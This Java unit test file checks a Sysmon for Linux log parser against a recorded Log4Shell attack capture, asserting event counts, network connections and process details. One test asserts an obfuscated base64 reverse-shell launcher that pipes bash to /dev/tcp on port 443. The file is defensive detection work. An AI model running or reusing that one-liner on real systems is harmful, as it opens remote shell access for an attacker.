package org.t1573.ingest.linux;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.t1573.ingest.linux.LinuxParsing.LOG4SHELL;
import static org.t1573.ingest.linux.LinuxParsing.action;
import static org.t1573.ingest.linux.LinuxParsing.iso;
import static org.t1573.ingest.linux.LinuxParsing.only;
import static org.t1573.ingest.linux.LinuxParsing.parse;
import static org.t1573.ingest.linux.LinuxParsing.parseRealFile;

import java.util.List;
import java.util.function.Predicate;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.t1573.event.Event;

/** Sysmon for Linux in the real Log4Shell capture: 93 rows, EventID 1 x31, 3 x6, 5 x50, 11 x4, 23 x2. */
class LinuxSysmonParserTest {

    private static List<Event> events;

    @BeforeAll
    static void parseCapture() throws Exception {
        events = parseRealFile(new LinuxSysmonParser(), LOG4SHELL, "syslog_sysmon");
    }

    @Test
    void processCreateConnectAndTerminateGiveEventsAndFileEventsNothing() {
        assertThat(events.stream().filter(action("process_start"))).hasSize(31);
        assertThat(events.stream().filter(action("network_connection"))).hasSize(6);
        assertThat(events.stream().filter(action("process_end"))).hasSize(50);
        assertThat(events).hasSize(87);
    }

    @Test
    void reverseShellConnectionTo443IsOutboundFromBash() {
        Event e = only(events, connectionTo("192.168.2.6", 443));

        assertThat(e.id).isEqualTo("UBUNTU5:245785");
        assertThat(e.code).isEqualTo("3");
        assertThat(e.dataset).isEqualTo("sysmon_linux");
        assertThat(e.provider).isEqualTo("Linux-Sysmon");
        assertThat(e.timestamp).isEqualTo(iso("2022-05-11T18:10:22.139Z"));
        assertThat(e.created).isEqualTo(iso("2022-05-11T18:10:22.143Z"));
        assertThat(e.hostName).isEqualTo("UBUNTU5");
        assertThat(e.processPid).isEqualTo(17806L);
        assertThat(e.processName).isEqualTo("bash");
        assertThat(e.processExecutable).as("Image is a bare 'bash' here").isNull();
        assertThat(e.processEntityId).as("Sysmon gives the GUID of pid 17794 (bash -i) with pid 17806")
                .isEqualTo("{94325212-fc0e-627b-4804-97a36d550000}");
        assertThat(e.userName).as("User '-'").isNull();
        assertThat(e.sourceIp).isEqualTo("192.168.2.5");
        assertThat(e.sourcePort).isEqualTo(39634);
        assertThat(e.networkTransport).isEqualTo("tcp");
        assertThat(e.networkDirection).isEqualTo("outbound");
        assertThat(e.outcome).isEqualTo("success");
    }

    @Test
    void tomcatJavaContactsTheLdapAndHttpServersOfTheExploit() {
        Event ldap = only(events, connectionTo("192.168.2.6", 1389));
        Event http = only(events, connectionTo("192.168.2.6", 8888));

        assertThat(ldap.processExecutable).isEqualTo("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java");
        assertThat(ldap.processPid).isEqualTo(1340L);
        assertThat(ldap.userName).isEqualTo("tomcat");
        assertThat(ldap.sourcePort).isEqualTo(41696);
        assertThat(ldap.timestamp).isEqualTo(iso("2022-05-11T18:10:21.790Z"));
        assertThat(http.processName).isEqualTo("java");
        assertThat(http.processEntityId).isEqualTo(ldap.processEntityId).isEqualTo("{94325212-f5a5-627b-b809-87f375550000}");
        assertThat(http.sourcePort).isEqualTo(41878);
    }

    @Test
    void defenderDaemonsConnectTo443() {
        Event wdav = only(events, connectionTo("104.46.127.225", 443));
        Event telemetry = only(events, connectionTo("13.89.179.10", 443));

        assertThat(wdav.processExecutable).isEqualTo("/opt/microsoft/mdatp/sbin/wdavdaemon");
        assertThat(wdav.processPid).isEqualTo(1774L);
        assertThat(wdav.userName).isEqualTo("root");
        assertThat(wdav.sourcePort).isEqualTo(51492);
        assertThat(wdav.timestamp).isEqualTo(iso("2022-05-11T18:10:20.472Z"));
        assertThat(telemetry.processExecutable).isEqualTo("/opt/microsoft/mdatp/sbin/telemetryd_v2");
        assertThat(telemetry.processPid).isEqualTo(2001L);
        assertThat(telemetry.sourcePort).isEqualTo(57596);
    }

    @Test
    void unboundUdpSocketOfTheShellKeepsItsZeroAddress() {
        Event e = only(events, connectionTo("0:0:0:0:0:0:0:0", 0));

        assertThat(e.processPid).isEqualTo(17806L);
        assertThat(e.networkTransport).isEqualTo("udp");
    }

    @Test
    void reverseShellLauncherStartIsChildOfJava() {
        Event e = only(events, action("process_start").and(x -> x.processPid == 17790L));

        assertThat(e.processCommandLine)
                .isEqualTo("bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}");
        assertThat(e.processStart).isEqualTo(iso("2022-05-11T18:10:21.998Z"));
        assertThat(e.parentPid).isEqualTo(1340L);
        assertThat(e.parentExecutable).isEqualTo("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java");
        assertThat(e.parentName).isEqualTo("java");
        assertThat(e.parentEntityId).isEqualTo("{94325212-f5a5-627b-b809-87f375550000}");
    }

    @Test
    void quotEntityWithoutSemicolonIsUnescapedAndZeroParentGuidIsAbsent() {
        Event e = only(events, action("process_start").and(x -> x.processPid == 17823L));

        assertThat(e.processCommandLine).startsWith("sh -c /opt/omi/bin/omicli wql root/scx \" SELECT");
        assertThat(e.parentEntityId).isNull();
        assertThat(e.parentExecutable).isNull();
    }

    @Test
    void rawSyslogLineWithTheXmlIsReadToo() throws Exception {
        String line = "May 11 18:10:20 UBUNTU5 sysmon: <Event><System><EventID>5</EventID>"
                + "<EventRecordID>7</EventRecordID><Computer>UBUNTU5</Computer></System><EventData>"
                + "<Data Name=\"UtcTime\">2022-05-11 18:10:20.395</Data><Data Name=\"ProcessId\">1774</Data>"
                + "<Data Name=\"Image\">/usr/bin/curl</Data></EventData></Event>";

        Event e = only(parse(new LinuxSysmonParser(), line), action("process_end"));

        assertThat(e.id).isEqualTo("UBUNTU5:7");
        assertThat(e.processName).isEqualTo("curl");
        assertThat(e.created).isNull();
    }

    @Test
    void rowWithoutEventXmlIsRejected() {
        assertThatThrownBy(() -> parse(new LinuxSysmonParser(), "{\"SyslogMessage\":\"hello\"}"))
                .hasMessageContaining("sysmon-linux: no <Event> XML");
    }

    private static Predicate<Event> connectionTo(String ip, int port) {
        return action("network_connection").and(e -> ip.equals(e.destinationIp) && e.destinationPort == port);
    }
}
